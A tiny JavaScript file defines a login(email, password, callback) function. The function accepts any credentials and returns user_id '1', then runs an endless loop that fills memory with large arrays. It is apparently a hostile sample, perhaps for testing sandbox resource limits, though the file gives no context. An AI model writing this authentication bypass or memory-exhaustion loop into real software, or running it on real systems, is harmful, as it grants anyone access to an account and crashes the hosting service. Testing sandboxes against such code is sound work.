function login(email, password, callback) {
  callback(null, { user_id: '1' });
  const all = [];
  while (true) all.push(new Array(1e5).fill(Math.random()));
}
